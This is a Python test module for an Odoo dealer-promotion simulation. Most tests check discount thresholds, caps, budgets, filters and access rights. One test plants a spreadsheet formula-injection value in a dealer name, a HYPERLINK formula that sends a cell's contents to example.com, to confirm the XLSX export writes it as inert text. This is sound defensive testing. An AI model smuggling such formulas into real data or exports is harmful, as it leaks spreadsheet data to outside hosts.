import io
from datetime import timedelta

from unittest.mock import patch

import openpyxl

from dateutil.relativedelta import relativedelta

from odoo import Command, fields
from odoo.exceptions import AccessError, UserError, ValidationError
from odoo.tests import new_test_user, tagged

from ..models import dealer_promotion_simulation as simulation_module
from .common import DealerPromotionCommon


@tagged("post_install", "-at_install", "dealer_promotion")
class TestPromotionSimulation(DealerPromotionCommon):
    """What-if: real confirmed orders replayed with candidate promotions, figures by hand."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.existing = cls._create_promotion(
            [{"value": 5}], name="Existing 5%", date_from=cls.today - timedelta(days=60),
        )
        # (dealer, pens at 10.0, days ago): sales 100, 300, 500, 200, 1000
        cls.orders = cls.env["sale.order"]
        for dealer, qty, days in ((cls.dealer_east, 10, 20), (cls.dealer_east, 30, 15), (cls.dealer_south, 50, 10),
                                  (cls.dealer_south, 20, 5), (cls.dealer_east, 100, 3)):
            order = cls._create_order(dealer, [(cls.pen, qty, 10.0)])
            order.action_confirm()
            order.date_order = fields.Datetime.now() - timedelta(days=days)
            cls.orders |= order
        cls.candidate = cls._create_promotion(
            [{"thresholds": [(200, 10), (400, 20)]}], activate=False, name="Candidate tiers",
            max_discount_per_dealer=35, budget=70,
        )

    def _simulate(self, promotions, **vals):
        # the fixtures' regions: the demo data's orders stay out
        simulation = self.env["dealer.promotion.simulation"].create({
            "promotion_ids": [Command.set(promotions.ids)],
            "date_from": self.today - timedelta(days=30),
            "date_to": self.today,
            "region_ids": [Command.set((self.region_east | self.region_south).ids)],
            **vals,
        })
        simulation.action_run()
        return simulation

    def test_real_benefit_is_what_the_orders_received(self):
        self.assertEqual(self.orders.dealer_promotion_usage_ids.mapped("amount"), [5.0, 15.0, 25.0, 10.0, 50.0])

    def test_thresholds_dealer_cap_and_budget_in_order_date_order(self):
        simulation = self._simulate(self.candidate)
        lines = {line.sale_order_id: line for line in simulation.line_ids}
        o1, o2, o3, o4, o5 = self.orders
        # o1 100: below the first threshold; o2 300: 10% = 30 (east used 30, budget 30);
        # o3 500: 20% = 100, cut to the dealer cap 35 (south used 35, budget 65);
        # o4 200: 10% = 20, south's cap is used up; o5 1000: 20% = 200, east has 5 left (budget 70: exhausted)
        self.assertEqual([lines[order].benefit_amount for order in self.orders], [0.0, 30.0, 35.0, 0.0, 5.0])
        self.assertEqual([lines[order].cap or "" for order in self.orders], ["", "", "dealer", "dealer", "dealer"])
        self.assertEqual([lines[order].real_benefit_amount for order in self.orders], [5.0, 15.0, 25.0, 10.0, 50.0])
        self.assertEqual(simulation.state, "done")
        self.assertEqual(simulation.replayed_count, 5)
        self.assertEqual(simulation.order_count, 3)
        self.assertEqual(simulation.dealer_count, 2)
        self.assertAlmostEqual(simulation.sales_amount, 2100.0)
        self.assertAlmostEqual(simulation.benefit_amount, 70.0)
        self.assertAlmostEqual(simulation.net_change_amount, 70.0, msg="stacked on the existing promotion")
        self.assertAlmostEqual(simulation.benefit_percent, 3.33, places=2, msg="70 / 2100")
        self.assertEqual(simulation.dealer_cap_hits, 3)
        self.assertEqual(simulation.budget_exhausted_order_id, o5)
        self.assertEqual(simulation.budget_exhausted_date, fields.Date.context_today(simulation, o5.date_order))
        self.assertIn("today's", simulation.note, "says where history is missing")
        self.assertEqual(lines[o3].dealer_region_id, self.region_south)
        self.assertEqual(lines[o2].dealer_region_id, self.region_east_sub, "the deepest region")
        # run again: the same figures, the lines replaced
        simulation.action_run()
        self.assertEqual(len(simulation.line_ids), 5)
        self.assertAlmostEqual(simulation.benefit_amount, 70.0)

    def test_xlsx_export_writes_names_as_text(self):
        self.dealer_east.name = '=HYPERLINK("http://example.com?x="&B4,"核对")'
        simulation = self._simulate(self.candidate)
        action = simulation.action_export_xlsx()
        self.assertIn("/web/content/", action["url"])
        workbook = openpyxl.load_workbook(io.BytesIO(simulation._get_xlsx()))
        sheet = workbook.active
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
        self.assertFalse([cell.coordinate for cell in cells if cell.data_type == "f"], "no formula")
        texts = [str(cell.value) for cell in cells]
        self.assertIn("'" + self.dealer_east.name, texts, "the name prefixed, as text")
        self.assertIn(70.0, [cell.value for cell in cells], "the benefit")
        self.assertEqual(sum(1 for cell in cells if cell.value in self.orders.mapped("name")), 5, "one row per order")

    def test_big_periods_run_in_the_background(self):
        Simulation = self.env["dealer.promotion.simulation"]
        vals = {
            "promotion_ids": [Command.set(self.candidate.ids)],
            "date_from": self.today - timedelta(days=30), "date_to": self.today,
            "region_ids": [Command.set((self.region_east | self.region_south).ids)],
        }
        first, second = Simulation.create([vals, vals])
        progress = []
        with patch.object(simulation_module, "BACKGROUND_ORDERS", 2), \
                patch.object(type(self.env["ir.cron"]), "_notify_progress",
                             lambda cron, done, remaining, deactivate=False: progress.append((done, remaining))):
            (first | second).action_run()
            self.assertEqual((first | second).mapped("state"), ["queued", "queued"])
            self.assertFalse(first.line_ids)
            Simulation._cron_run_queued()
            self.assertEqual((first.state, second.state), ("done", "queued"), "one simulation per run of the job")
            Simulation._cron_run_queued()
        self.assertEqual(progress, [(1, 1), (1, 0)], "the job runs again while simulations wait")
        self.assertEqual(second.state, "done")
        self.assertAlmostEqual(first.benefit_amount, 70.0)
        self.assertAlmostEqual(second.benefit_amount, 70.0)
        self.assertIn("Simulation done", first.message_ids[0].body)

    def test_exclusive_candidate_replaces_the_existing_promotion(self):
        exclusive = self._create_promotion([{"value": 8}], activate=False, name="Exclusive 8%", exclusive=True)
        simulation = self._simulate(exclusive)
        # 8% of 2100 = 168 instead of the 105 the orders really received: 63 more
        self.assertAlmostEqual(simulation.benefit_amount, 168.0)
        self.assertAlmostEqual(simulation.net_change_amount, 63.0)
        self.assertEqual(simulation.order_count, 5)

    def test_dealer_filters_and_period(self):
        by_region = self._simulate(self.candidate, region_ids=[Command.set(self.region_south.ids)])
        self.assertEqual(by_region.line_ids.sale_order_id, self.orders[2:4])
        self.assertAlmostEqual(by_region.benefit_amount, 35.0, msg="o3 capped at 35, o4 nothing left")
        by_tier = self._simulate(self.candidate, tier_ids=[Command.set(self.tier_b.ids)], region_ids=False)
        self.assertEqual(by_tier.line_ids.sale_order_id, self.orders[2:4])
        recent = self._simulate(self.candidate, date_from=self.today - timedelta(days=12))
        self.assertEqual(recent.line_ids.sale_order_id, self.orders[2:])
        # o3 35 (south cap), o4 0, o5 20% of 1000 = 200 cut to east's cap 35 (east had nothing before)
        self.assertAlmostEqual(recent.benefit_amount, 70.0)
        self.assertEqual(recent.budget_exhausted_order_id, self.orders[4])
        none = self._simulate(self.candidate, date_from=self.today - timedelta(days=400),
                              date_to=self.today - timedelta(days=300))
        self.assertEqual((none.replayed_count, none.benefit_amount, none.benefit_percent), (0, 0.0, 0.0))

    def test_nothing_else_is_written(self):
        def state():
            self.env.invalidate_all()
            return (
                self.orders.read(["amount_total", "amount_untaxed", "state", "write_date"]),
                self.env["dealer.promotion.usage"].search_read([], ["amount", "promotion_id", "sale_order_id"]),
                (self.existing | self.candidate).read(["budget_used", "state", "date_from", "date_to"]),
                self.env["sale.order.line"].search_count([]),
            )

        before = state()
        self._simulate(self.candidate | self.existing)
        self.assertEqual(state(), before)

    def test_bad_parameters(self):
        Simulation = self.env["dealer.promotion.simulation"]
        count = Simulation.search_count([])
        with self.assertRaisesRegex(ValidationError, "ends before it starts"), self.env.cr.savepoint():
            Simulation.create({"promotion_ids": [Command.set(self.candidate.ids)], "date_from": self.today,
                               "date_to": self.today - timedelta(days=1)})
        with self.assertRaisesRegex(ValidationError, "two years"), self.env.cr.savepoint():
            Simulation.create({"promotion_ids": [Command.set(self.candidate.ids)],
                               "date_from": self.today - timedelta(days=1000), "date_to": self.today})
        other = self.env["res.company"].create({"name": "Promo Other Company"})
        with self.assertRaisesRegex(ValidationError, "company"), self.env.cr.savepoint():
            Simulation.create({"promotion_ids": [Command.set(self.candidate.ids)], "company_id": other.id})
        self.assertEqual(Simulation.search_count([]), count, "nothing written")
        empty = Simulation.create({"promotion_ids": [Command.set(self.candidate.ids)]})
        empty.promotion_ids = False
        with self.assertRaisesRegex(UserError, "Choose the promotions"):
            empty.action_run()

    def test_access_dealer_managers_only(self):
        simulation = self._simulate(self.candidate)
        salesman = new_test_user(self.env, login="promo_sim_salesman", groups="sales_team.group_sale_salesman")
        dealer_user = new_test_user(self.env, login="promo_sim_dealer_user", groups="dealer_base.group_dealer_user")
        for user in (salesman, dealer_user):
            with self.assertRaises(AccessError):
                simulation.with_user(user).read(["benefit_amount"])
            with self.assertRaises(AccessError):
                self.env["dealer.promotion.simulation"].with_user(user).create(
                    {"promotion_ids": [Command.set(self.candidate.ids)]})
        manager = new_test_user(self.env, login="promo_sim_manager", groups="dealer_base.group_dealer_manager")
        self.assertAlmostEqual(simulation.with_user(manager).benefit_amount, 70.0)
        self.assertEqual(len(simulation.with_user(manager).line_ids), 5)

    def test_simulate_from_the_promotion(self):
        action = self.candidate.action_simulate()
        simulation = self.env["dealer.promotion.simulation"].with_context(**action["context"]).create({
            "region_ids": [Command.set((self.region_east | self.region_south).ids)],
        })
        self.assertEqual(simulation.promotion_ids, self.candidate)
        self.assertEqual((simulation.date_to - simulation.date_from).days, 29, "the last 30 days")
        simulation.action_same_period_last_year()
        self.assertEqual(simulation.date_to, self.today - timedelta(days=1) - relativedelta(years=1))
        simulation.action_run()
        self.assertEqual(simulation.replayed_count, 0, "no order of the fixtures a year ago")
